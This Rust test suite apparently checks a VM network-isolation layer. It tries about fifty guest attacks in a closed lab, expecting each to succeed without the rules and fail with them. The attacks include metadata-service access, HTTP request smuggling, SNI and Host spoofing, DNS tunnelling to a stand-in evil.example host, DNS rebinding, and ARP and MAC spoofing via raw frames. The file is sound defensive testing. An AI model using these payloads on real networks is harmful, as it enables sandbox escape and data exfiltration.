//! The attack suite: what a hostile root in a guest tries, each attack first in a world without our rules, where it must succeed,
//! then in one with them, where it must fail, be counted, and leave the neighbour alone. The last line counts them.

use std::{os::fd::AsRawFd, time::Duration};

use nix::sys::socket::{AddressFamily, LinkAddr, SockFlag, SockType, SockaddrLike, sendto, socket};

use crate::{
    client::{ask, ask_stream, datagram, hello, hello_with_ech, say, say_in},
    frame::{self, Ip},
    lab::{METADATA, Namespace, ROUTER, UPLINK, ip, json, sysctl},
    stage::{A, B, EVIL, GATEWAY, GOOD, PORT_B, RESOLVER, RULES, Stage, comes, stays_away},
};

/// What is tried. The text goes along and is looked for at the other side.
struct Attack {
    name: &'static str,
    act: fn(&Stage, &str),
    /// Whether it has succeeded.
    won: fn(&Stage, &str) -> bool,
    /// Whether the guarded world counts it. Frames that the kernel's isolation of ports keeps from passing never reach a rule,
    /// and a connection that is led to its name's true host, or a request that is read one way, is no refusal.
    counted: bool,
}

const fn attack(name: &'static str, act: fn(&Stage, &str), won: fn(&Stage, &str) -> bool) -> Attack {
    Attack { name, act, won, counted: true }
}

fn heard(stage: &Stage, marker: &str) -> bool {
    stage.heard.has(marker)
}

fn heard_by_evil(stage: &Stage, marker: &str) -> bool {
    stage.heard.at(EVIL, marker)
}

/// Somebody out there learnt it from a question for a name.
fn asked(stage: &Stage, marker: &str) -> bool {
    let has = |names: Vec<String>| names.iter().any(|name| name.to_ascii_lowercase().contains(marker));
    [&stage.dns, &stage.evil_dns, &stage.metadata_dns].iter().any(|dns| has(dns.asked()))
}

fn tcp(stage: &Stage, to: [u8; 4], port: u16, marker: &str) {
    say(&stage.a, to, port, marker.as_bytes());
}

fn get(host: &str, marker: &str) -> String {
    format!("GET /{marker} HTTP/1.1\r\nHost: {host}\r\n\r\n")
}

/// A frame as it stands, out of the guest's card.
fn raw(from: &Namespace, frame: &[u8]) {
    from.run(|| {
        let fd = socket(AddressFamily::Packet, SockType::Raw, SockFlag::empty(), None).unwrap();
        let index = nix::net::if_::if_nametoindex("eth0").unwrap();
        let raw = nix::libc::sockaddr_ll {
            sll_family: u16::try_from(nix::libc::AF_PACKET).unwrap(),
            sll_protocol: 0,
            sll_ifindex: i32::try_from(index).unwrap(),
            sll_hatype: 0,
            sll_pkttype: 0,
            sll_halen: 6,
            sll_addr: [0; 8],
        };
        let length = u32::try_from(size_of_val(&raw)).unwrap();
        // SAFETY: the structure is a whole `sockaddr_ll` of that length.
        let to = unsafe { LinkAddr::from_raw((&raw const raw).cast(), Some(length)) }.unwrap();
        sendto(fd.as_raw_fd(), frame, &to, nix::sys::socket::MsgFlags::empty()).unwrap();
    });
}

fn mac(of: Ip) -> frame::Mac {
    fireclaw_core::id::MacAddr::for_ip(of.into()).octets()
}

fn datagram_from(mac_of: Ip, from: Ip, to: Ip, marker: &str) -> Vec<u8> {
    let packet = frame::udp((from, 5555), (to, 9000), marker.as_bytes());
    frame::ethernet(mac(GATEWAY), mac(mac_of), 0x0800, &packet)
}

/// Whether the host believes that a guest's address is at this MAC.
fn believes(stage: &Stage, address: &str, mac: &str) -> bool {
    let table = stage.lab.host.run(|| json("ip -j neighbour show dev fc-br0"));
    table.as_array().unwrap().iter().any(|entry| entry["dst"] == address && entry["lladdr"] == mac)
}

const ATTACKS: &[Attack] = &[
    attack("metadata service", |s, m| tcp(s, METADATA, 80, m), heard),
    attack("metadata service of another cloud", |s, m| tcp(s, [100, 100, 100, 200], 80, m), heard),
    attack(
        "metadata service by its DNS port",
        |s, m| {
            ask(&s.a, METADATA, m, 1);
        },
        asked,
    ),
    attack("a host of the LAN", |s, m| tcp(s, [192, 168, 7, 7], 80, m), heard),
    attack("a host of the LAN by UDP", |s, m| datagram(&s.a, [10, 0, 0, 53], 9000, m.as_bytes()), heard),
    Attack { counted: false, ..attack("another VM's gateway", |s, m| tcp(s, B, 18789, m), heard) },
    Attack {
        counted: false,
        ..attack("another VM by UDP", |s, m| datagram(&s.a, B, 9000, m.as_bytes()), heard)
    },
    attack("the host's sshd on the bridge", |s, m| tcp(s, GATEWAY, 22, m), heard),
    attack("the host's sshd on its uplink", |s, m| tcp(s, UPLINK, 22, m), heard),
    attack("a UDP service of the host", |s, m| datagram(&s.a, GATEWAY, 9000, m.as_bytes()), heard),
    attack(
        "another instance's sidecar",
        |s, m| tcp(s, GATEWAY, PORT_B, m),
        |s, m| {
            // With us that port is a sidecar, which tells of whoever comes.
            if s.guarded { s.report_of_b().refused > 0 } else { heard(s, m) }
        },
    ),
    attack("an address without a name", |s, m| tcp(s, EVIL, 9000, m), heard),
    attack("SSH of a stranger", |s, m| tcp(s, EVIL, 22, m), heard),
    attack("SSH of an allowed host", |s, m| tcp(s, GOOD, 22, m), heard),
    attack("an allowed port of a stranger's address", |s, m| tcp(s, EVIL, 5432, m), heard),
    attack("raw bytes to port 443", |s, m| tcp(s, EVIL, 443, m), heard),
    attack("raw bytes to port 80", |s, m| tcp(s, EVIL, 80, m), heard),
    attack(
        "SSH on port 443",
        |s, m| {
            say(&s.a, EVIL, 443, format!("SSH-2.0-{m}\r\n").as_bytes());
        },
        heard,
    ),
    attack(
        "TLS to a stranger by name",
        |s, m| {
            say(&s.a, EVIL, 443, &hello(Some("evil.example"), m));
        },
        heard,
    ),
    attack(
        "TLS to an allowed address by a stranger's name",
        |s, m| {
            say(&s.a, GOOD, 443, &hello(Some("evil.example"), m));
        },
        heard,
    ),
    Attack {
        counted: false,
        ..attack(
            "TLS to a stranger's address by an allowed name",
            |s, m| {
                say(&s.a, EVIL, 443, &hello(Some("good.example"), m));
            },
            heard_by_evil,
        )
    },
    attack(
        "TLS without a name",
        |s, m| {
            say(&s.a, EVIL, 443, &hello(None, m));
        },
        heard,
    ),
    attack(
        "TLS without a name to an allowed address",
        |s, m| {
            say(&s.a, GOOD, 443, &hello(None, m));
        },
        heard,
    ),
    attack(
        "a stranger's name in segments of one byte",
        |s, m| {
            let bytes = hello(Some("evil.example"), m);
            say_in(&s.a, EVIL, 443, &bytes.chunks(1).collect::<Vec<_>>());
        },
        heard,
    ),
    attack(
        "an encrypted name behind an allowed one",
        |s, m| {
            say(&s.a, GOOD, 443, &hello_with_ech("good.example", m));
        },
        heard,
    ),
    attack(
        "the parent of an allowed wildcard",
        |s, m| {
            say(&s.a, GOOD, 443, &hello(Some("wild.example"), m));
        },
        heard,
    ),
    attack(
        "an allowed name as a prefix",
        |s, m| {
            say(&s.a, EVIL, 443, &hello(Some("good.example.evil.example"), m));
        },
        heard,
    ),
    attack(
        "HTTP to a stranger by name",
        |s, m| {
            say(&s.a, EVIL, 80, get("evil.example", m).as_bytes());
        },
        heard,
    ),
    Attack {
        counted: false,
        ..attack(
            "HTTP to a stranger's address by an allowed Host",
            |s, m| {
                say(&s.a, EVIL, 80, get("good.example", m).as_bytes());
            },
            heard_by_evil,
        )
    },
    attack(
        "HTTP by address",
        |s, m| {
            say(&s.a, EVIL, 80, get("203.0.113.66", m).as_bytes());
        },
        heard,
    ),
    attack(
        "HTTP without a Host",
        |s, m| {
            say(&s.a, EVIL, 80, format!("GET /{m} HTTP/1.0\r\n\r\n").as_bytes());
        },
        heard,
    ),
    attack(
        "two Hosts",
        |s, m| {
            let text = format!("GET /{m} HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n");
            say(&s.a, GOOD, 80, text.as_bytes());
        },
        heard,
    ),
    attack(
        "a target that differs from its Host",
        |s, m| {
            let text = format!("GET http://evil.example/{m} HTTP/1.1\r\nHost: good.example\r\n\r\n");
            say(&s.a, GOOD, 80, text.as_bytes());
        },
        heard,
    ),
    attack(
        "another Host in the second request of a connection",
        |s, m| {
            let text = format!("{}{}", get("good.example", "first"), get("evil.example", m));
            say(&s.a, GOOD, 80, text.as_bytes());
        },
        heard,
    ),
    Attack {
        counted: false,
        ..attack(
            "a request hidden in another's body",
            |s, m| {
                let hidden = get("evil.example", m);
                let text = format!(
                    "POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
                    hidden.len() + 5
                );
                say(&s.a, GOOD, 80, text.as_bytes());
            },
            heard,
        )
    },
    attack(
        "a tunnel by CONNECT",
        |s, m| {
            let text = format!("CONNECT good.example:22 HTTP/1.1\r\nHost: good.example:80\r\nX: {m}\r\n\r\n");
            say(&s.a, GOOD, 80, text.as_bytes());
        },
        heard,
    ),
    attack(
        "a Host with another port",
        |s, m| {
            say(&s.a, GOOD, 80, get("good.example:22", m).as_bytes());
        },
        heard,
    ),
    attack("QUIC", |s, m| datagram(&s.a, GOOD, 443, m.as_bytes()), heard),
    attack("any UDP", |s, m| datagram(&s.a, EVIL, 9000, m.as_bytes()), heard),
    attack(
        "DNS over TLS",
        |s, m| {
            say(&s.a, EVIL, 853, &hello(Some("evil.example"), m));
        },
        heard,
    ),
    attack(
        "a tunnel by questions to a stranger's resolver",
        |s, m| {
            ask(&s.a, EVIL, &format!("{m}.evil.example"), 1);
        },
        asked,
    ),
    attack(
        "the same by TCP",
        |s, m| {
            ask_stream(&s.a, EVIL, &format!("{m}.evil.example"));
        },
        asked,
    ),
    attack(
        "a tunnel by questions to the resolver",
        |s, m| {
            ask(&s.a, RESOLVER, &format!("{m}.evil.example"), 1);
        },
        asked,
    ),
    attack(
        "texts of an allowed name",
        |s, m| {
            ask(&s.a, RESOLVER, &format!("{m}.wild.example"), 16);
        },
        asked,
    ),
    attack("bytes that are no question at port 53", |s, m| datagram(&s.a, EVIL, 53, m.as_bytes()), asked),
    attack("rebinding to the LAN", |s, m| rebind(s, m, [192, 168, 7, 7]), heard),
    attack("rebinding to the metadata service", |s, m| rebind(s, m, METADATA), heard),
    attack("rebinding to the host", |s, m| rebind(s, m, UPLINK), heard),
    attack("rebinding to another VM", |s, m| rebind(s, m, B), heard),
    attack("a port of the LAN beside an allowed range", |s, m| tcp(s, [10, 99, 0, 1], 8443, m), heard),
    attack(
        "ICMP as a carrier",
        |s, m| {
            let mut data = frame::echo_request(A, ROUTER);
            data.extend(m.bytes());
            raw(&s.a, &frame::ethernet(mac(GATEWAY), mac(A), 0x0800, &data));
        },
        |s, _| pings(s) > 0,
    ),
    attack(
        "IPv6",
        |s, m| {
            let packet = frame::udp6((six(0, 2), 5555), (six(1, 2), 9006), m.as_bytes());
            raw(&s.a, &frame::ethernet(mac(GATEWAY), mac(A), 0x86dd, &packet));
        },
        heard,
    ),
    attack("another's MAC", |s, m| raw(&s.a, &datagram_from(B, A, GOOD, m)), heard),
    attack("another's address", |s, m| raw(&s.a, &datagram_from(A, B, GOOD, m)), heard),
    attack("another's MAC and address", |s, m| raw(&s.a, &datagram_from(B, B, GOOD, m)), heard),
    attack(
        "a VLAN tag",
        |s, m| raw(&s.a, &frame::tagged(&datagram_from(A, A, GATEWAY, m), 0x8100, 0)),
        heard,
    ),
    attack(
        "ARP for another's address",
        |s, _| {
            let lie = frame::arp(2, (mac(A), [172, 16, 0, 77]), (mac(GATEWAY), GATEWAY));
            raw(&s.a, &frame::ethernet(mac(GATEWAY), mac(A), 0x0806, &lie));
        },
        |s, _| believes(s, "172.16.0.77", &frame::written(mac(A))),
    ),
    Attack {
        counted: false,
        ..attack(
            "a frame to another VM past the gateway",
            |s, m| {
                let packet = frame::udp((A, 5555), (B, 9000), m.as_bytes());
                raw(&s.a, &frame::ethernet(mac(B), mac(A), 0x0800, &packet));
            },
            heard,
        )
    },
];

fn six(net: u8, host: u8) -> [u8; 16] {
    [0xfd, net, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, host]
}

/// A name that is allowed and turns to a forbidden address between a look at it and the connection.
fn rebind(stage: &Stage, marker: &str, to: [u8; 4]) {
    let name = format!("{marker}.wild.example");
    stage.dns.set(&name, &[GOOD]);
    ask(&stage.a, RESOLVER, &name, 1);
    stage.dns.set(&name, &[to]);
    // A guest of the open world goes where its own resolver says.
    let found = ask(&stage.a, RESOLVER, &name, 1).map(|(_, found)| found).unwrap_or_default();
    let address = found.first().map_or(to, std::net::Ipv4Addr::octets);
    let other = format!("{marker}2.wild.example");
    stage.dns.set(&other, &[to]);
    say(&stage.a, address, 80, get(&name, marker).replace(marker, &format!("{marker}-x")).as_bytes());
    say(&stage.a, to, 80, get(&other, marker).as_bytes());
    say(&stage.a, GOOD, 80, get(&other, marker).as_bytes());
}

/// Echo requests that the router has seen.
fn pings(stage: &Stage) -> u64 {
    let listed = stage.lab.internet.run(|| json("nft -j list counter inet watch pings"));
    listed["nftables"][1]["counter"]["packets"].as_u64().unwrap()
}

/// What the attacks need in both worlds.
fn prepare(stage: &Stage) {
    stage.lab.internet.run(|| {
        crate::lab::load(
            "table inet watch {
                counter pings { packets 0 bytes 0 }
                chain input {
                    type filter hook input priority filter;
                    icmp type echo-request counter name pings
                }
            }",
        );
        ip("address add fd01::2/64 dev net0 nodad");
        stage.heard.listen_six(9006);
    });
    stage.lab.host.run(|| {
        stage.heard.listen(&[22, 80, 9000]);
        for setting in ["all/forwarding", "fc-br0/forwarding"] {
            sysctl(&format!("ipv6/conf/{setting}"), "1");
        }
        sysctl("ipv6/conf/fc-br0/disable_ipv6", "0");
        ip("address add fd00::1/64 dev fc-br0 nodad");
        ip("address add fd01::1/64 dev up0 nodad");
        ip("neighbour add 172.16.0.77 lladdr 02:00:00:00:00:01 nud stale dev fc-br0");
        sysctl("ipv4/neigh/fc-br0/locktime", "0");
        sysctl("ipv4/conf/all/rp_filter", "0");
    });
    stage.b.run(|| stage.heard.listen(&[80, 9000, 18789]));
    if !stage.guarded {
        stage.lab.host.run(|| stage.heard.listen(&[PORT_B]));
    }
}

#[test]
#[expect(clippy::print_stdout, clippy::disallowed_macros, reason = "the count is the suite's result")]
fn every_attack_succeeds_without_us_and_fails_with_us() {
    let (open, guarded) = (Stage::open(), Stage::by_list(&RULES));
    prepare(&open);
    prepare(&guarded);
    let mut failures = Vec::new();
    for (index, attack) in ATTACKS.iter().enumerate() {
        let marker = format!("attack{index}q");
        (attack.act)(&open, &marker);
        if !comes(|| (attack.won)(&open, &marker)) {
            failures.push(format!("{}: does not work without us, so it proves nothing", attack.name));
            continue;
        }
        let before = guarded.counted();
        (attack.act)(&guarded, &marker);
        if !stays_away(|| (attack.won)(&guarded, &marker)) {
            failures.push(format!("{}: SUCCEEDED", attack.name));
        } else if attack.counted && guarded.counted() <= before {
            failures.push(format!("{}: was not counted", attack.name));
        }
    }
    // After all of it the neighbour and the honest use work as before.
    assert_eq!(ask(&guarded.b, RESOLVER, "x.example", 1), Some((3, vec![])));
    assert!(say(&guarded.a, GOOD, 80, get("good.example", "honest").as_bytes()).contains("200 OK"));
    assert!(failures.is_empty(), "{failures:#?}");
    println!(
        "{} attacks, each succeeds without fireclaw's rules and sidecar and fails with them",
        ATTACKS.len()
    );
}

#[test]
fn nothing_of_these_tests_can_leave_the_machine() {
    let stage = Stage::open();
    let routes = stage.lab.host.run(|| json("ip -j route show default"));
    assert_eq!(routes[0]["gateway"], "198.51.100.1", "the host's only way is the internet of the test");
    let reached = std::net::SocketAddr::from(([1, 1, 1, 1], 80));
    let outside = stage.a.run(|| std::net::TcpStream::connect_timeout(&reached, Duration::from_millis(300)));
    assert!(outside.is_err(), "the real internet was reached");
}
